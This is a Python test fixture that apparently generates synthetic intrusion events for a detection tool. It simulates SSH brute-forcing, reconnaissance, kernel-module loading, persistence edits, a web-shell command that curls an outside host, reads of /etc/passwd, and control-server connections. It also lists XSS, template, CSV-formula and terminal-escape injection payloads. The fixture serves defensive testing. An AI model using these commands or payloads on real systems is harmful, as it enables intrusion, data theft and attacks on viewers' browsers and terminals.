"""What happens on the hosts of a test: the events of a break-in on web-03, ordinary ones, and ones made to hurt a page."""

from collections.abc import Callable, Iterator
from typing import Any

from redshank.analysis.detect.selftest import derived
from redshank.events import Event
from redshank.events.codec import from_flat
from redshank.events.values import rfc3339

SECOND_NS = 1_000_000_000
SSHD = {"pid": 812, "executable": "/usr/sbin/sshd"}
INIT = {"pid": 1, "executable": "/usr/lib/systemd/systemd"}
SHELL = {"pid": 4101, "executable": "/usr/bin/bash"}
INTRUDER = {
    "user.id": 0, "user.name": "root", "user.effective.id": 0, "user.effective.name": "root", "user.audit.id": 0, "user.audit.name": "root",
    "redshank.session.id": 183, "process.tty.name": "pts/0", "process.working_directory": "/root",
    "process.parent.executable": "/usr/bin/bash", "process.parent.pid": 4101,
    "process.parent.entity_id": "e-4101", "process.ancestors": [SHELL, SSHD, INIT],
}  # fmt: skip
WEB = {
    "user.id": 33, "user.name": "www-data", "user.effective.id": 33, "user.effective.name": "www-data",
    "process.parent.executable": "/usr/sbin/apache2", "process.parent.pid": 977,
    "process.parent.entity_id": "e-977", "process.working_directory": "/var/www/html/uploads",
    "process.ancestors": [{"pid": 977, "executable": "/usr/sbin/apache2"}, {"pid": 960, "executable": "/usr/sbin/apache2"}, INIT],
    "redshank.session.id": 0xFFFFFFFF,
}  # fmt: skip
BOT = {
    "process.executable": "/usr/bin/bsd-port/getty", "process.pid": 4410, "process.entity_id": "e-4410", "user.id": 0, "user.name": "root",
    "process.ancestors": [INIT],
}  # fmt: skip

Flat = dict[str, Any]


def event(flat: Flat, at_ns: int, host: tuple[str, str, str], sequence: int) -> Event:
    """An event as the server stores it. host: its id, its name and its agent's id."""
    host_id, name, agent_id = host
    identity = {
        "@timestamp": rfc3339(at_ns), "event.id": f"{agent_id}-{'0' * 32}-{sequence}", "event.sequence": str(sequence),
        "event.created": rfc3339(at_ns), "host.id": host_id, "host.name": name, "agent.id": agent_id, "redshank.source": "ebpf",
    }  # fmt: skip
    return from_flat(derived(identity | flat))


def break_in() -> Iterator[tuple[float, Flat]]:
    """Seconds before now and what happened: all four kinds of Severity 1, and files opened and modified."""
    guess = {"event.action": "session.login_failed", "source.ip": "198.51.100.7", "user.name": "root", "redshank.login.service": "sshd"}
    for number in range(40):
        yield 65 - number * 0.1, guess | {"redshank.login.method": "password"}
    yield 60, guess | {"event.action": "session.login", "redshank.login.method": "password"}
    for number, line in enumerate(("id", "uname -a", "cat /proc/version", "chmod 755 /tmp/breeb")):
        yield 58.5 - number / 10, run(line, 4150 + number)
    yield 58, run("insmod /usr/lib/xpacket.ko", 4200, "/usr/bin/kmod")
    yield 57.9, written("/etc/rc.local", "file.open", "/usr/bin/bash", 4101)
    yield 57.8, written("/etc/rc.local", "file.modify", "/usr/bin/bash", 4101)
    yield 57, written("/usr/bin/netstat", "file.open", "/usr/bin/cp", 4230)
    yield 56.9, written("/usr/bin/netstat", "file.modify", "/usr/bin/cp", 4230)
    yield 55, written("/etc/init.d/DbSecuritySpt", "file.create", "/tmp/breeb", 4290)
    for number in range(30):
        yield 50 - number, BOT | connect(f"203.0.113.{66 + number % 3}")
    yield 9, run("sh -c id;uname -a;curl 198.51.100.7/x", 4500, "/usr/bin/dash", WEB)
    for number, line in enumerate(("whoami", "ps aux", "cat /etc/passwd")):
        yield 8 - number / 2, run(line, 4520 + number, by=WEB)


def run(line: str, pid: int, executable: str | None = None, by: Flat = INTRUDER) -> Flat:
    """A program started from the intruder's shell, or by another."""
    args = line.split(" ")
    path = executable or f"/usr/bin/{args[0]}"
    own: Flat = {"event.action": "process.exec", "process.executable": path, "process.args": args}
    own |= {"process.pid": pid, "process.entity_id": f"e-{pid}", "process.args_count": len(args)}
    return by | own | {"redshank.executable.kind": "file"}


def written(path: str, action: str, by: str, pid: int) -> Flat:
    """A file opened for writing, or changed, from the intruder's shell."""
    own = {"event.action": action, "file.path": path, "process.executable": by, "process.pid": pid, "process.entity_id": f"e-{pid}"}
    opened = {"redshank.file.access": "write", "redshank.file.watch": "tree"} if action == "file.open" else {}
    return INTRUDER | own | opened


def connect(address: str) -> Flat:
    """A connection to a control server."""
    peer = {"destination.ip": address, "destination.port": 36000, "network.transport": "tcp", "network.direction": "egress"}
    return peer | {"event.action": "net.connect", "source.ip": "192.0.2.10", "source.port": 50123, "redshank.network.initiated": True}


HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "${alert(1)}{{7*7}}<%= 7*7 %>",
    "\u202egnp.exe\u2066 \u200b\u2060 \ufeff",
    "nul \\x00 cr \r lf \n tab \t ls \u2028 ps \u2029",
    "data: x\n\nevent: alert\ndata: {}\n\n",
    "\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://203.0.113.66/\x07link\x1b]8;;\x07\x1b[31m",
    '=cmd|"/c calc"!A1',
    "javascript:alert(1)//http://203.0.113.66",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo",
    "\U0001d54f" * 40 + "\U000e0041\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "A" * 65_000,
)
"""Texts that break pages, streams, terminals and spreadsheets that take them for anything but text."""


def hostile() -> Iterator[tuple[float, Flat]]:
    """Alerts whose every text is hostile."""
    for number, text in enumerate(HOSTILE):
        short = text[:200]
        line = INTRUDER | {
            "event.action": "process.exec", "process.executable": f"/tmp/{short}/insmod", "process.args": ["insmod", text[:32_000]],
            "process.command_line": f"insmod {text}"[:32_000], "user.name": short[:60], "process.working_directory": f"/tmp/{short}",
            "process.pid": 6000 + number, "process.entity_id": f"e-{6000 + number}",
            "process.ancestors": [{"pid": 6, "executable": f"/{short}"}, {"pid": "x", "executable": None}, INIT],
        }  # fmt: skip
        yield 5 - number / 10, line | {"process.executable": "/usr/bin/kmod"}
        yield 4 - number / 10, written(f"/etc/{short}", "file.modify", "/usr/bin/cp", 6100 + number)


def fresh(number: int) -> Flat:
    """One more event that gives an alert of its own each time; every tenth wakes somebody."""
    if number % 10 == 0:
        return run(f"insmod /tmp/module{number}.ko", 7000 + number % 1000, "/usr/bin/kmod")
    return written(f"/etc/app{number}.conf", "file.modify", "/usr/bin/cp", 7000 + number % 1000)


def placed(told: Iterator[tuple[float, Flat]], now_ns: int, host: tuple[str, str, str], counter: Callable[[], int]) -> list[Event]:
    """The events of a telling, in order of time."""
    lines = sorted(told, key=lambda line: -line[0])
    return [event(flat, now_ns - int(ago * SECOND_NS), host, counter()) for ago, flat in lines]
